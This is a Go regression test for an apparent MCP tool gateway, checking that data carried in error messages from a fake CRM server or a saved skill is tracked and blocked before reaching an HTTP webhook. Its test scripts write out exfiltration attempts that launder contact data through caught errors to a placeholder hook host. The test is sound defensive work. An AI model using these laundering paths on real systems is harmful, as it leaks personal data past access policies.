package security

import (
	"encoding/json"
	"fmt"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// lockedServer is an upstream MCP server (Streamable HTTP, JSON answers)
// with one tool, get_contact, that answers isError with a text naming
// the record it refuses — what an honest CRM says of a locked one.
func lockedServer(t *testing.T) string {
	t.Helper()
	ts := httptest.NewServer(upstreamHandler(func(method string, _ json.RawMessage) string {
		switch method {
		case "initialize":
			return `{"protocolVersion":"2025-06-18","capabilities":{"tools":{}},"serverInfo":{"name":"crmx","version":"1"}}`
		case "tools/list":
			return `{"tools":[{"name":"get_contact","description":"Gets a contact.","inputSchema":{"type":"object"}}]}`
		case "tools/call":
			return `{"isError":true,"content":[{"type":"text","text":"contact Jörg Großkopf at Hauptstraße 17 is locked"}]}`
		}
		return ""
	}))
	t.Cleanup(ts.Close)
	return ts.URL + "/mcp"
}

// TestErrorTextFollowed (issue 19, attack25 F11): what a call's error
// carries reaches the program as its ToolError's message, and the run's
// data flow never observed it: an upstream's isError text naming a
// record, or what a skill saved from a crm value throws, caught and
// posted to http, passed crm.* → http.*. The error is now observed as a
// result is, under the call's sources, before the program has it.
func TestErrorTextFollowed(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	cfg := filepath.Join(dir, "config.toml")
	toml := fmt.Sprintf("[[filter.rules]]\nfrom = \"crm*.*\"\nto = \"http.*\"\n\n[upstream.crmx]\nurl = %q\n", lockedServer(t))
	if err := os.WriteFile(cfg, []byte(toml), 0o600); err != nil {
		t.Fatal(err)
	}
	catalog, _ := filepath.Abs(filepath.Join("..", "..", "..", "testdata", "catalog"))
	s := start(t, "--config", cfg, "--catalog", catalog)
	alice := s.open(t, aliceToken)
	post := func(expr string) string {
		return `await http.post_webhook({url: "https://hooks.example/x", payload: {v: ` + expr + `}}); return "SENT"`
	}
	var rec record
	// The upstream connects in the background.
	for deadline := time.Now().Add(60 * time.Second); ; time.Sleep(200 * time.Millisecond) {
		rec = alice.run(`let m = ""; try { await crmx.get_contact({}) } catch (e) { m = e.message } if (!m.includes("Hauptstraße 17")) return "NO TEXT: " + m; ` + post("m"))
		if !strings.Contains(rec.raw, "NO TEXT") || time.Now().After(deadline) {
			break
		}
	}
	if !strings.Contains(rec.raw, "policy_violation") {
		t.Errorf("an upstream's error text reached http: %.400s", rec.raw)
	}
	if rec := alice.run(`let m = ""; try { await crmx.get_contact({}) } catch (e) { m = e.code } ` + post("m")); string(rec.Result) != `"SENT"` {
		t.Errorf("control: the error's code, of no source, was stopped: %.400s", rec.raw)
	}

	if rec := alice.run(`const c = await crm.get_contact({id: "c_8812"});
await skills.save({name: "where", description: "Where.", code: "throw new Error(" + JSON.stringify("mail " + c.email) + ")"}); return 1`); rec.Status != "ok" {
		t.Fatalf("save: %.400s", rec.raw)
	}
	later := s.open(t, aliceToken)
	rec = later.run(`let m = ""; try { await skills.where({}) } catch (e) { m = e.message } if (!m.includes("@")) return "NO VALUE: " + m; ` + post("m"))
	if !strings.Contains(rec.raw, "policy_violation") {
		t.Errorf("what a skill saved from crm threw reached http: %.400s", rec.raw)
	}
}
